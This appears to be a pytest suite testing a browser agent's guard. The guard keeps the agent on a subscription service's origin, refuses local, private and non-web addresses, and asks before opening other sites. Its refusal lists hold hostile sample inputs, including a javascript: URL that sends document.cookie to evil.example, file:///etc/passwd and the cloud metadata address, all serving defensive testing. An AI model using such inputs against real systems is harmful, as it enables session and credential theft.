"""The run's reach: the browser holds a person's signed-in sessions, so it goes only where the
service lives, and nowhere else without a yes worded for what it is.

Two servers on 127.0.0.1: the service (the run's start origin) and a "local service" standing
in for the person's router or another app, which must never be reached. Chromium resolves
every name to 127.0.0.1 here (``--host-resolver-rules``), so ``evil.example`` is another web
site served on this machine, and nothing can leave it. The servers record every request they
get: the page's word counts for nothing.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp.client import Client
from playwright.async_api import Browser as PWBrowser

from harness.approvals import ScriptedApprovals
from harness.fake_api import plan_responder
from harness.fake_openai import FakeOpenAI, completion, latest_elements
from harness.fake_openai import tool_call as call
from harness.mcp_driver import Person, ref
from subterminator.assembly import build_run
from subterminator.browser.discovery import find_chromium
from subterminator.browser.playwright_browser import PlaywrightBrowser
from subterminator.browser.reach import Reach, is_private_host, resolves_private
from subterminator.mcp.server import build_server
from subterminator.mcp.session import McpOptions
from subterminator.models.conversation import ToolCall
from subterminator.services import NETFLIX
from subterminator.services.base import ServiceConfig
from subterminator.simulator.server import LocalServer
from subterminator.stack import Reply, ToolStack
from subterminator.stack.reach import build_reach
from tests.support.browser_helpers import by_name
from tests.support.cli_helpers import on_terminal
from tests.support.mcp_helpers import shared_chromium
from tests.support.reach_site import LOCAL_PORT, SERVICE_HITS, SERVICE_PAGES, _Recording
from tests.support.reach_site import (
    chromium as chromium,
)  # the module's Chromium (names -> 127.0.0.1)

# -- the rule, on its own ------------------------------------------------------------------


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "127.7.7.7",
        "localhost",
        "app.localhost",
        "10.0.0.8",
        "192.168.1.1",
        "172.16.4.2",
        "169.254.169.254",
        "100.64.0.1",
        "0.0.0.0",
        "[::1]",
        "[fe80::1]",
        "[fd00::5]",
        "[::ffff:127.0.0.1]",
        "printer.local",
        "router",
        "2130706433",
        "0x7f.1",
        "127.1",
    ],
)
def test_local_and_private_hosts_are_local(host: str) -> None:
    assert is_private_host(host)


@pytest.mark.parametrize("host", ["netflix.com", "www.paypal.com", "8.8.8.8", "[2606:4700::1]"])
def test_public_hosts_are_not(host: str) -> None:
    assert not is_private_host(host)


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "FILE:///root/.subterminator/browser-profile/",
        "chrome://version",
        "chrome://history",
        "view-source:https://www.netflix.com/account",
        "data:text/html,<h1>hi</h1>",
        "javascript:fetch('//evil.example/'+document.cookie)",
        "blob:https://www.netflix.com/1234",
        "about:config",
        "devtools://devtools/bundled/inspector.html",
        "ftp://files.example/",
        "http://127.0.0.1:9/admin",
        "http://localhost:631/",
        "http://192.168.0.1/",
        "http://[::1]:8080/",
    ],
)
def test_refused_outright(url: str) -> None:
    reach = build_reach(NETFLIX, "https://www.netflix.com/account")
    assert reach.verdict(url).kind == "refused"


def test_the_service_and_its_providers_are_in_and_others_ask() -> None:
    reach = build_reach(NETFLIX, "https://www.netflix.com/account", ["help.example"])
    for url in (
        "https://www.netflix.com/cancelplan",
        "https://netflix.com/",
        "https://help.netflix.com/x",
        "https://www.paypal.com/checkout",
        "https://docs.help.example/a",
        "about:blank",
    ):
        assert reach.verdict(url).kind == "in", url
    for url in ("https://notnetflix.com/", "https://netflix.com.evil.example/", "https://x.io/"):
        verdict = reach.verdict(url)
        assert verdict.kind == "ask", url
        assert "is not Netflix" in verdict.reason


def test_the_start_origin_is_in_but_not_the_rest_of_loopback() -> None:
    reach = build_reach(NETFLIX, "http://127.0.0.1:8765/account")
    assert reach.verdict("http://127.0.0.1:8765/cancelplan").kind == "in"
    assert reach.verdict("http://127.0.0.1:8766/").kind == "refused"
    assert reach.verdict("http://localhost:8765/").kind == "refused"
    assert reach.verdict("https://127.0.0.1:8765/").kind == "refused"


def test_a_file_start_page_is_that_page_only() -> None:
    reach = build_reach(NETFLIX, "file:///tmp/flow/account.html")
    assert reach.verdict("file:///tmp/flow/account.html").kind == "in"
    assert reach.verdict("file:///tmp/flow/other.html").kind == "refused"
    assert reach.verdict("file:///etc/passwd").kind == "refused"


def test_a_yes_is_for_that_page_once_not_its_site() -> None:
    reach = build_reach(NETFLIX, "https://www.netflix.com/account")
    reach.grant("https://evil.example/a?x=1")
    assert reach.verdict("https://evil.example/a?x=1#top").kind == "in"
    assert reach.verdict("https://evil.example/b").kind == "ask"
    assert reach.verdict("https://evil.example/a?x=2").kind == "ask"
    reach.consume("https://evil.example/a?x=1")
    assert reach.verdict("https://evil.example/a?x=1").kind == "ask"


def test_a_service_without_domains_lives_on_its_start_host() -> None:
    acme = ServiceConfig(name="acme", display_name="Acme", initial_url="https://www.acme.example/")
    reach = build_reach(acme)
    assert reach.verdict("https://billing.acme.example/cancel").kind == "in"
    assert reach.verdict("https://acme.example.evil.example/").kind == "ask"


def test_subresources_to_local_addresses_are_refused_from_anywhere_but_the_start() -> None:
    reach = Reach("Netflix", origins=frozenset({"http://127.0.0.1:8765"}))
    assert not reach.subresource_refused("http://127.0.0.1:8765/api")
    assert reach.subresource_refused("http://127.0.0.1:9000/api")
    assert reach.subresource_refused("ws://localhost:9000/socket")
    assert not reach.subresource_refused("https://cdn.example/x.js")
    assert not reach.subresource_refused("data:image/png;base64,AAAA")


# -- in a real browser -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[LocalServer, type[_Recording]]]:
    local = type("Local", (_Recording,), {"pages": {}, "hits": []})
    service = type("Service", (_Recording,), {"pages": SERVICE_PAGES, "hits": SERVICE_HITS})
    with LocalServer(local) as local_server, LocalServer(service) as service_server:
        LOCAL_PORT[0] = int(local_server.base_url.rsplit(":", 1)[1])
        yield service_server, local


class Run:
    def __init__(self, stack: ToolStack, approvals: ScriptedApprovals | None) -> None:
        self.stack, self.approvals = stack, approvals
        self.last: Reply | None = None

    async def call(self, name: str, **arguments: object) -> Reply:
        self.last = await self.stack.execute(ToolCall(id="t", name=name, arguments=arguments))
        return self.last

    async def click(self, name: str) -> Reply:
        assert self.last is not None
        ref = by_name(self.last.snapshot, name).ref
        return await self.call("browser_click", ref=ref)


async def start(
    browser: PlaywrightBrowser,
    servers: tuple[LocalServer, type[_Recording]],
    answers: list[bool] | None,
    page: str = "/account",
    allow_sites: tuple[str, ...] = (),
) -> Run:
    service, local = servers
    local.hits.clear()
    start_url = f"{service.base_url}{page}"
    approvals = ScriptedApprovals(answers) if answers is not None else None
    stack = build_run(
        NETFLIX, browser, approvals, start_url=start_url, allow_sites=allow_sites
    ).stack
    await browser.navigate(start_url)
    run = Run(stack, approvals)
    await run.call("get_snapshot")
    return run


pytestmark = pytest.mark.browser


async def test_a_link_to_a_local_service_is_stopped_unasked(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[])
    reply = await run.click("პაროლის აღდგენა")
    assert servers[1].hits == []
    assert "/account" in reply.snapshot.page.url
    assert "local or private network address" in (reply.message or "")


async def test_a_redirect_to_a_local_service_is_stopped_where_it_is_made(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[])
    reply = await run.click("ჩემი კოდი")
    assert servers[1].hits == []  # the 302's target never got a request (nor its cookies)
    assert "one-time-code" in (reply.message or "")


async def test_another_site_is_asked_for_in_its_own_words_and_no_means_no(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[False])
    reply = await run.click("Tovuti ya msaada")
    assert servers[1].hits == []
    assert run.approvals is not None
    (asked,) = run.approvals.requests
    assert asked.action.startswith("Open evil.example, which is not Netflix")
    assert "read by the model" in asked.action
    assert "/account" in reply.snapshot.page.url
    assert "declined" in (reply.message or "")


async def test_a_yes_opens_that_page_once_and_not_its_site(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[True, False])
    reply = await run.click("Tovuti ya msaada")
    assert servers[1].hits == ["GET /landing"]
    assert reply.snapshot.page.url.endswith("/landing")
    await run.call("browser_open", url=f"{servers[0].base_url}/account")
    await run.click("อีกหน้าหนึ่ง")  # the same site, another page: asked again (no)
    assert servers[1].hits == ["GET /landing"]
    assert run.approvals is not None
    assert len(run.approvals.requests) == 2


async def test_forms_to_another_site_ask_or_stop(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[False])
    await run.click("Tafuta")  # a GET form carrying a token to another site: asked, no
    await run.click("Wyślij")  # a POST to another site: stopped, never re-sent
    assert servers[1].hits == []
    assert "not sent" in ((run.last.message or "") if run.last else "")


async def test_script_windows_and_requests_to_local_services_are_refused(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    run = await start(chromium, servers, answers=[])
    await run.click("Fungua dirisha")
    field = by_name(run.last.snapshot if run.last else None, "Jina")  # type: ignore[arg-type]
    await run.call("browser_fill", ref=field.ref, value="hello")
    assert servers[1].hits == []


async def test_frames_and_their_redirects_to_local_services_do_not_load(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    await start(chromium, servers, answers=[], page="/framed")
    assert servers[1].hits == []


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "chrome://version",
        "chrome://history",
        "view-source:http://127.0.0.1:1/",
        "data:text/html,<script>document.title='ran'</script>",
        "javascript:document.title='ran'",
        "http://127.0.0.1:{{LOCAL}}/admin",
    ],
)
async def test_typed_addresses_outside_the_web_are_refused_without_a_question(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]], url: str
) -> None:
    run = await start(chromium, servers, answers=[])  # any question would fail the test
    url = url.replace("{{LOCAL}}", str(LOCAL_PORT[0]))
    for _ in range(2):  # a second try is refused too: nothing was granted
        reply = await run.call("browser_open", url=url)
        assert reply.result["success"] is False
        assert reply.result["error"] == "invalid_params"
    assert "/account" in reply.snapshot.page.url
    assert reply.snapshot.page.title != "ran"
    assert servers[1].hits == []


async def test_allow_site_widens_the_reach(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    _, local = servers
    run = await start(chromium, servers, answers=[], allow_sites=("evil.example",))
    await run.click("Tovuti ya msaada")
    assert local.hits == ["GET /landing"]


# -- through the MCP front door, with the SDK's client ------------------------------------------


async def test_over_mcp_local_services_and_typed_schemes_are_refused_unasked(
    st_chromium_session: PWBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    service, local = servers
    local.hits.clear()
    options = McpOptions(sim="2026", url=f"{service.base_url}/account", runs_dir=None)
    server = build_server(options, browser_factory=shared_chromium(st_chromium_session))
    person = Person([])
    callback: Any = person
    async with Client(server, mode="legacy", elicitation_callback=callback) as client:
        opened = await client.call_tool("browser_open", {})
        await client.call_tool("browser_click", {"ref": ref(opened, "პაროლის აღდგენა")})
        again = await client.call_tool("browser_open", {})
        clicked = await client.call_tool("browser_click", {"ref": ref(again, "ჩემი კოდი")})
        said = (clicked.structured_content or {}).get("message", "")
        for url in ("file:///etc/passwd", "chrome://version", "javascript:alert(1)"):
            typed = await client.call_tool("browser_open", {"url": url})
            assert (typed.structured_content or {}).get("error") == "invalid_params"
    assert local.hits == []
    assert "one-time-code" in said
    assert person.asked == []


async def test_a_name_that_leads_to_this_machine_is_local() -> None:
    assert await resolves_private("localhost")
    assert not await resolves_private("no-such-host.invalid")


SOCKETS = """<!doctype html><title>Live</title><h1>Live</h1><p id=s>waiting</p><script>
const ws = new WebSocket('ws://127.0.0.1:{{LOCAL}}/socket');
ws.onopen = () => { document.getElementById('s').textContent = 'open'; };
ws.onclose = () => { document.getElementById('s').textContent = 'closed'; };
</script>"""


async def test_a_websocket_to_a_local_service_is_refused(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    _, local = servers
    SERVICE_PAGES["/live"] = SOCKETS  # the service's handler serves this very dict
    run = await start(chromium, servers, answers=[], page="/live")
    await chromium.page.wait_for_function("document.getElementById('s').textContent !== 'waiting'")
    reply = await run.call("get_snapshot")
    assert "closed" in reply.snapshot.page.text
    assert local.hits == []  # the socket's handshake never reached the local service


# -- through the command line, on a real terminal ----------------------------------------------

CLI_PAGE = """<!doctype html><html lang="sw"><head><title>Akaunti</title></head><body>
<h1>Akaunti</h1>
<a href="http://127.0.0.1:{{LOCAL}}/reset-token">Weka upya nenosiri</a>
<a href="{{EVIL}}/landing">Msaada</a>
</body></html>"""


def test_on_the_terminal_a_local_service_is_refused_and_another_site_asked(
    servers: tuple[LocalServer, type[_Recording]], tmp_path: Path
) -> None:
    service, local = servers
    local.hits.clear()
    SERVICE_PAGES["/cli"] = CLI_PAGE
    # Chromium as the person has it, with every name resolved to this machine: nothing leaves
    wrapper = tmp_path / "chromium"
    wrapper.write_text(
        f'#!/bin/sh\nexec {find_chromium()} "--host-resolver-rules=MAP * 127.0.0.1" "$@"\n'
    )
    wrapper.chmod(0o755)
    plan = [("link", "Weka upya nenosiri", 0), ("link", "Msaada", 0)]
    model = plan_responder(
        plan,
        latest_elements,
        lambda n, ref: completion(call("browser_click", id=f"call_{n}", ref=ref)),
        lambda n: completion(call("complete_task", id=f"call_{n}", status="failed", reason="x")),
    )
    with FakeOpenAI() as api:
        api.queue(*[model] * 4)
        session = on_terminal(
            "cancel",
            "netflix",
            "--url",
            f"{service.base_url}/cli",
            "--headless",
            "--model",
            "gpt-4o",
            "--max-turns",
            "4",
            "--runs-dir",
            str(tmp_path / "runs"),
            "--allow-site",
            "help.example",
            OPENAI_API_KEY="sk-test",
            OPENAI_BASE_URL=api.url,
            SUBTERMINATOR_CHROMIUM=str(wrapper),
        )
        shown = session.read_until("Approve this step?")
        session.send("n\n")
        session.read_until("Feedback for the agent")
        session.send("\n")
        session.wait()
    assert "Open evil.example, which is not Netflix" in " ".join(shown.split())
    assert "read by the model" in " ".join(shown.split())
    assert session.seen.count("Approve this step?") == 1  # the local service was never asked
    assert local.hits == []
    (record,) = (tmp_path / "runs").iterdir()
    assert "(--allow-site): help.example" in (record / "events.jsonl").read_text()


OUTER = """<!doctype html><title>Billing</title><h1>Billing</h1>
<iframe title="Portal" src="{{FRAME}}/portal"></iframe>"""
PORTAL = """<!doctype html><title>Portal</title>
<a href="/go/{{LOCAL}}/portal-hop">Lipa sasa</a>"""


async def test_a_redirect_inside_a_frame_of_its_own_process_is_stopped(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    service, local = servers
    frame_origin = service.base_url.replace("127.0.0.1", "localhost")  # another site: an OOPIF
    SERVICE_PAGES["/billing"] = OUTER.replace("{{FRAME}}", frame_origin)
    SERVICE_PAGES["/portal"] = PORTAL
    run = await start(chromium, servers, [], page="/billing", allow_sites=(frame_origin,))
    reply = await run.click("Lipa sasa")
    assert local.hits == []
    assert "portal-hop" in (reply.message or "")


POPUPS = """<!doctype html><html lang="lt"><title>Langai</title><h1>Langai</h1>
<button onclick="window.open('/go/{{LOCAL}}/popup-hop')">Atidaryti langą</button>
<a target="_blank" href="/go/{{LOCAL}}/blank-hop">Naujas skirtukas</a>
<a target="_blank" href="/fine">Gera nuoroda</a></html>"""


async def test_a_new_tabs_redirect_is_stopped_and_a_good_tab_opens_once(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    SERVICE_PAGES["/popups"] = POPUPS
    run = await start(chromium, servers, answers=[], page="/popups")
    await run.click("Atidaryti langą")
    await chromium.navigate(f"{servers[0].base_url}/popups")
    await run.call("get_snapshot")
    await run.click("Naujas skirtukas")
    await chromium.navigate(f"{servers[0].base_url}/popups")
    await run.call("get_snapshot")
    reply = await run.click("Gera nuoroda")
    assert servers[1].hits == []
    assert reply.snapshot.page.url.endswith("/fine")


AUTO_SUBMIT = """<!doctype html><html lang="et"><title>Kinnita</title><h1>Kinnita</h1>
<form method="post" action="/commit-typed"><input name="x" value="1"></form>
<script>document.forms[0].submit()</script></html>"""


async def test_a_yes_to_open_an_address_is_not_a_yes_for_what_its_page_sends(
    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
) -> None:
    SERVICE_PAGES["/auto"] = AUTO_SUBMIT
    run = await start(chromium, servers, answers=[True])
    SERVICE_HITS.clear()
    reply = await run.call("browser_open", url=f"{servers[0].base_url}/auto")
    assert run.approvals is not None
    assert len(run.approvals.requests) == 1  # typed, never shown: asked, and yes
    assert SERVICE_HITS == ["GET /auto"]  # the page opened; its own POST on load was held
    assert "/commit-typed" in (reply.message or "")
